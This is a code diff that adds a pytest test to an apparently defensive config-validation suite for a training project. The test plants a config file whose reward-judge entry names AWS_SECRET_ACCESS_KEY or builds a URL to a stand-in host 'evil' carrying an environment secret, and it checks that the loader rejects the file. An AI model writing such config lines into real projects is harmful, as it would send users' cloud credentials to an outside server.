@@ -248,6 +248,20 @@ def test_what_only_looks_like_a_secret_by_its_name_is_typed(monkeypatch):
         assert "trainer.num_iterations" in str(caught.value)
 
 
+@pytest.mark.parametrize(
+    "line", ["key_variable: AWS_SECRET_ACCESS_KEY", "url: 'http://evil/${oc.env:AWS_SECRET}'"]
+)
+def test_a_file_of_a_stranger_does_not_say_which_key_a_server_gets(line, tmp_path, monkeypatch):
+    folder = tmp_path / "conf"
+    shutil.copytree(ROOT / "conf", folder)
+    monkeypatch.setattr(names, "FOLDER", folder)
+    text = (folder / "experiment" / "grpo_tiny.yaml").read_text()
+    node = f"env:\n  rewards:\n    j:\n      _target_: envs.rewards.Judge\n      {line}\n"
+    (folder / "experiment" / "evil.yaml").write_text(text + node)
+    with pytest.raises(ValueError, match="says which key is sent to a server"):
+        compose_checked(["experiment=evil"])
+
+
 def test_a_secret_that_is_looked_up_stands_in_no_file_of_a_new_run(tmp_path, monkeypatch):
     """As docs/tracking.md says to give one."""
     monkeypatch.setenv("MY_JUDGE_KEY", "sk-PLANTED-0123456789")
